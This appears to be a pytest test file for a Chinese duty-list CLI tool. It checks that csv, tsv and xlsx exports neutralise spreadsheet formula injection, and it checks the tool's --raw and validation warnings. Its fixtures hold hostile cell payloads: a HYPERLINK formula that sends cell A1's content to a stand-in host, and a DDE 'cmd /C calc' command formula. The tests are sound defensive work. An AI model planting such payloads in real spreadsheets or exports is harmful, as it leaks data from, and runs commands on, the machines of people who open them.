"""No spreadsheet output of duty holds a live formula from list or task text (issue 22, cause 1).

A list whose every text (item name, category, department, step, guarantee)
starts with one of the characters a spreadsheet reads as the start of a
formula, and check tasks that start with them, are written by every command
that writes csv, tsv or xlsx. A csv/tsv cell must start with ``'`` then the
exact text (the OWASP rule); an xlsx cell must be a string cell, never a
formula, holding the exact text. ``--raw`` writes the exact text.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
import yaml

from .conftest import Duty

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# A list's texts cannot hold a carriage return (validate refuses control characters).
LIST_TRIGGERS = TRIGGERS[:5]
PAYLOAD = '{t}HYPERLINK("http://example.invalid/?q="&A1,"点我查看{i}")'


def _texts(i: int, t: str) -> dict[str, str]:
    return {
        "name": PAYLOAD.format(t=t, i=i),
        "category": f"{t}类别{i}",
        "department": f"{t}区部门{i}",
        "upper": f"{t}1+{i}审核上报材料。",
        "guarantee": f"{t}cmd|' /C calc'!A{i}",
        "street": f"{t}受理申请{i}。",
    }


def hostile_list(path: Path) -> list[str]:
    """A valid list whose every text starts with a trigger; the texts, for the tests."""
    texts = [_texts(i, t) for i, t in enumerate(LIST_TRIGGERS)]
    doc = {
        "schema": 1,
        "list": {
            "title": "=测试街道配合履职事项清单",
            "subdistrict": "@测试街道",
            "kind": "配合履职事项",
        },
        "categories": [x["category"] for x in texts],
        "departments": [{"name": x["department"], "aliases": []} for x in texts],
        "items": [
            {
                "id": i + 1,
                "name": x["name"],
                "category": x["category"],
                "departments": [x["department"]],
                "upper_duties": [
                    {"departments": [x["department"]], "heading": None, "steps": [x["upper"]]}
                ],
                "guarantees": [x["guarantee"]],
                "street_duties": [{"heading": None, "steps": [x["street"]]}],
            }
            for i, x in enumerate(texts)
        ],
    }
    path.write_text(yaml.safe_dump(doc, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return [v for x in texts for v in x.values()]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[str]]:
    # One file for the module (no test changes it): its store is compiled once.
    path = tmp_path_factory.mktemp("formulas") / "formulas.yaml"
    return path, hostile_list(path)


TASKS = [PAYLOAD.format(t=t, i=i) + "督促物业公司做好考评打分工作" for i, t in enumerate(TRIGGERS)]

# Every command that writes a table, with arguments that give rows of the hostile list.
COMMANDS = {
    "list": ["list"],
    "show": ["show", "1", "2", "3", "4", "5"],
    "search": ["search", "点我查看"],
    "by-dept": ["by-dept", "=区部门0"],
    "by-category": ["by-category", "=类别0"],
    "depts": ["depts"],
    "categories": ["categories"],
    "lists": ["lists"],
    "export": ["export"],
    "cite": ["cite", "1"],
}


def _cells_csv(text: str) -> list[str]:
    assert text.startswith("\ufeff")
    return [c for row in csv.reader(io.StringIO(text[1:])) for c in row]


def _unescape_tsv(cell: str) -> str:
    out, k = [], 0
    while k < len(cell):
        if cell[k] == "\\" and k + 1 < len(cell):
            out.append({"t": "\t", "n": "\n", "r": "\r", "\\": "\\"}[cell[k + 1]])
            k += 2
        else:
            out.append(cell[k])
            k += 1
    return "".join(out)


def _cells_tsv(text: str) -> list[str]:
    return [_unescape_tsv(c) for line in text.splitlines() for c in line.split("\t")]


def _cells_xlsx(data: bytes) -> list[str]:
    import openpyxl

    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    cells.append(cell.value)
    return cells


def _assert_neutral(cells: list[str], quoted: bool) -> None:
    """No cell starts a formula; with ``quoted``, a cell that would is ``'`` + its exact text."""
    for cell in cells:
        if quoted:
            assert not cell.startswith(TRIGGERS) or cell.lstrip("+-").isdigit(), cell


def _found(cells: list[str], texts: list[str], quoted: bool) -> None:
    """Every hostile text is in some cell, exactly (after the ``'``)."""
    joined = "\n".join(cells)
    for text in texts:
        wanted = ("'" + text) if quoted else text
        assert wanted in joined or ("\n" + text) in joined, text


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
@pytest.mark.parametrize("command", list(COMMANDS))
def test_delimited_neutralised(
    duty: Duty, hostile: tuple[Path, list[str]], command: str, fmt: str
) -> None:
    path, texts = hostile
    r = duty("--data", str(path), *COMMANDS[command], "-o", fmt)
    assert r.exit_code == 0, r.output
    cells = _cells_csv(r.stdout) if fmt == "csv" else _cells_tsv(r.stdout)
    _assert_neutral(cells, quoted=True)
    if command in ("list", "show", "export"):
        # Whole items: every text survives, with the one ' in front.
        firsts = [t for t in texts if t.startswith(TRIGGERS)]
        _found(cells, [t for t in firsts if not t.startswith(("\t", "\r"))][:1], quoted=True)
        assert any(c == "'" + texts[0] for c in cells), texts[0]


@pytest.mark.parametrize("command", [c for c in COMMANDS if c != "cite"])  # cite: no --output
def test_xlsx_has_no_formula(
    duty: Duty, hostile: tuple[Path, list[str]], command: str, tmp_path: Path
) -> None:
    path, texts = hostile
    out = tmp_path / "out.xlsx"
    r = duty("--data", str(path), *COMMANDS[command], "-o", "xlsx", "--output", str(out))
    assert r.exit_code == 0, r.output
    cells = _cells_xlsx(out.read_bytes())
    if command in ("list", "show"):
        assert texts[0] in cells  # the exact text, as a string cell


@pytest.mark.parametrize("fmt", ["csv", "tsv", "xlsx"])
def test_check_tasks_neutralised(duty: Duty, fmt: str, tmp_path: Path) -> None:
    out = tmp_path / f"out.{fmt}"
    r = duty("check", "-", "-o", fmt, "--output", str(out), input="\n".join(TASKS) + "\n")
    assert r.exit_code in (0, 1), r.output
    if fmt == "xlsx":
        cells = _cells_xlsx(out.read_bytes())
        for task in TASKS[:4]:  # tab and CR are cut from a task line's ends
            assert task in cells
        return
    text = out.read_text(encoding="utf-8")
    cells = _cells_csv(text) if fmt == "csv" else _cells_tsv(text)
    _assert_neutral(cells, quoted=True)
    for task in TASKS[:4]:
        assert "'" + task in cells


def test_diff_neutralised(duty: Duty, hostile: tuple[Path, list[str]], tmp_path: Path) -> None:
    path, _ = hostile
    other = tmp_path / "other.yaml"
    other.write_text(path.read_text(encoding="utf-8").replace("点我查看0", "点我查看"), "utf-8")
    for fmt in ("csv", "tsv"):
        r = duty("--data", str(path), "diff", str(path), str(other), "-o", fmt)
        assert r.exit_code in (0, 1), r.output
        cells = _cells_csv(r.stdout) if fmt == "csv" else _cells_tsv(r.stdout)
        _assert_neutral(cells, quoted=True)
        assert any(c.startswith("'=HYPERLINK") for c in cells), cells


def test_numbers_keep_their_sign() -> None:
    from dutycli.render.delimited import neutral

    assert neutral("-3") == "-3"
    assert neutral("+2.5") == "+2.5"
    assert neutral("-3+A1") == "'-3+A1"
    assert neutral("低保") == "低保"
    assert neutral("=1+1") == "'=1+1"


@pytest.mark.parametrize("where", ["before", "after"])
def test_raw_writes_the_exact_text(duty: Duty, hostile: tuple[Path, list[str]], where: str) -> None:
    path, texts = hostile
    args = ["list", "-o", "csv"]
    args = ["--raw", *args] if where == "before" else [*args, "--raw"]
    r = duty("--data", str(path), *args)
    assert r.exit_code == 0, r.output
    cells = _cells_csv(r.stdout)
    assert texts[0] in cells and "'" + texts[0] not in cells
    # The next run without --raw neutralises again (the setting does not stick).
    assert "'" + texts[0] in _cells_csv(duty("--data", str(path), "list", "-o", "csv").stdout)


def test_raw_by_the_installed_entry_point(hostile: tuple[Path, list[str]]) -> None:
    from .conftest import run_main

    path, texts = hostile
    code, out, err = run_main(["--data", str(path), "list", "-o", "tsv", "--raw"])
    assert code == 0, err
    assert out.splitlines()[1].split("\t")[1] == texts[0]
    code, out, err = run_main(["--data", str(path), "list", "-o", "tsv"])
    assert out.splitlines()[1].split("\t")[1] == "'" + texts[0]


def test_validate_warns_with_file_line_column(duty: Duty, hostile: tuple[Path, list[str]]) -> None:
    path, _ = hostile
    r = duty("validate", str(path))
    assert r.exit_code == 0, r.output  # a warning, not an error
    warned = [line for line in r.stderr.splitlines() if "警告" in line]
    # 5 categories, 5 departments, and 4 texts in each of the 5 items.
    assert len(warned) == 30, r.stderr
    text = path.read_text(encoding="utf-8").splitlines()
    for line in warned:
        _, number, column = line.split(":")[:3]
        # The place named holds the text's first characters (the trigger, or its escape).
        at = text[int(number) - 1][int(column) - 1 :]
        assert at.startswith(("'=", "'+", "'-", "'@", "=", "+", "-", "@", '"\\t')), at


def test_validate_of_a_clean_list_warns_nothing(duty: Duty) -> None:
    from .conftest import DATA

    r = duty("validate", str(DATA))
    assert r.exit_code == 0 and "警告" not in r.output


def test_import_warns_at_the_cell(duty: Duty, tmp_path: Path) -> None:
    source = tmp_path / "table.txt"
    source.write_text(
        "# 测试街道配合履职事项清单\n\n"
        "序号\t事项名称\t对应上级部门\t上级部门职责\t苏木乡镇（街道）配合职责\n"
        "<b>一、民生服务</b>\t\t\t\t\n"
        '1\t=HYPERLINK("http://x","点我")\t测试区民政局\t测试区民政局职责： 审核。\t@配合。\n'
        "\n注：仅供测试。\n",
        encoding="utf-8",
    )
    depts = tmp_path / "departments.yaml"
    depts.write_text("departments:\n- {name: 测试区民政局}\n", encoding="utf-8")
    r = duty("import", str(source), "--departments", str(depts))
    assert r.exit_code == 0, r.output
    assert '- id: 1\n  name: =HYPERLINK("http://x","点我")' in r.stdout  # the text itself is kept
    warned = [line for line in r.stderr.splitlines() if "警告" in line]
    assert len(warned) == 2, r.stderr
    assert all(line.startswith(f"{source}:5: 第 1 项：警告") for line in warned), warned
